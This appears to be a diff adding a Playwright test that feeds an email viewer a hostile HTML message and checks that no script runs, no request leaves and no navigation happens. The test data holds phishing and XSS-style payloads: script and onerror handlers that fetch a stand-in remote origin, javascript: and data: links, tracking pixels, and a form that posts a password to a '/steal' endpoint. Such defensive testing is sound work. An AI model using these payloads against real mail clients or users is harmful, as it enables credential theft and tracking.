@@ -1,0 +1,85 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, message, test } from './fixtures';
+import { messageFrame, openPath } from './helpers';
+
+/**
+ * Hostile HTML must not run, load, post or navigate. Every remote reference points at a loopback
+ * listener standing in for the internet, so "no request leaves" is something we can count.
+ */
+function hostileHtml(origin: string) {
+  return `<html><head>
+<meta http-equiv="refresh" content="0;url=${origin}/refresh">
+<base href="${origin}/base/">
+<link rel="stylesheet" href="${origin}/style.css">
+<style>@import url("${origin}/import.css"); body { background: url(${origin}/css-bg.gif); }</style>
+<script>window.__pwned = 'head script'; fetch('${origin}/fetch');</script>
+</head>
+<body onload="window.__pwned='body onload'">
+<h2>Your mailbox is full</h2>
+<script>window.__pwned = 'script'; new Image().src = '${origin}/script-img';</script>
+<img src="x" onerror="window.__pwned='onerror'; fetch('${origin}/onerror')">
+<img src="${origin}/pixel.gif" alt="pixel">
+<a id="js" href="javascript:window.__pwned='javascript link'">Verify account</a>
+<a id="data" href="data:text/html,<script>parent.__pwned=1</script>">Details</a>
+<a id="ext" href="${origin}/phish">https://login.microsoftonline.com/</a>
+<form action="${origin}/steal" method="post"><input name="password" type="password" value="hunter2"><button id="submit" type="submit">Sign in</button></form>
+<iframe src="${origin}/iframe"></iframe>
+<object data="${origin}/object"></object>
+<embed src="${origin}/embed">
+<svg xmlns="http://www.w3.org/2000/svg"><script>window.__pwned='svg'</script><image href="${origin}/svg-image"/></svg>
+<div style="background:url('${origin}/inline-bg.gif')">styled</div>
+<video poster="${origin}/poster.gif"></video>
+<img srcset="${origin}/srcset.gif 2x">
+</body></html>`;
+}
+
+test('hostile HTML: no script runs, no request leaves, nothing navigates', async ({
+  page,
+  harness,
+  remote,
+  workDir,
+}) => {
+  const path = join(workDir, 'hostile.eml');
+  writeFileSync(
+    path,
+    message({ subject: 'Action required: mailbox full', html: hostileHtml(remote.origin) }),
+  );
+
+  const mainFrameNavigations: string[] = [];
+  const foreignRequests: string[] = [];
+  page.on('framenavigated', (frame) => {
+    if (frame === page.mainFrame()) mainFrameNavigations.push(frame.url());
+  });
+  page.on('request', (request) => {
+    const url = request.url();
+    if (!url.startsWith(harness.origin) && !url.startsWith('data:') && !url.startsWith('about:')) {
+      foreignRequests.push(url);
+    }
+  });
+
+  await page.goto(harness.url);
+  await openPath(page, path);
+  await page.getByTestId('message-list').getByRole('option').first().click();
+  const frame = messageFrame(page);
+  await expect(frame.getByRole('heading', { name: 'Your mailbox is full' })).toBeVisible();
+
+  // Try the links and the form as a person would.
+  for (const selector of ['#js', '#data', '#ext', '#submit']) {
+    const target = frame.locator(selector);
+    if ((await target.count()) > 0) await target.click({ timeout: 2000 }).catch(() => undefined);
+  }
+  await page.waitForLoadState('networkidle');
+
+  for (const each of page.frames()) {
+    const pwned = await each.evaluate(() => (window as { __pwned?: unknown }).__pwned).catch(() => undefined);
+    expect(pwned, `window.__pwned in frame ${each.url()}`).toBeUndefined();
+  }
+  expect(remote.requests).toEqual([]);
+  expect(foreignRequests).toEqual([]);
+  expect(mainFrameNavigations).toEqual([harness.url]);
+  expect(page.url()).toBe(harness.url);
+  await expect(page.getByTestId('reader').getByRole('heading', { level: 1 })).toHaveText(
+    'Action required: mailbox full',
+  );
+});
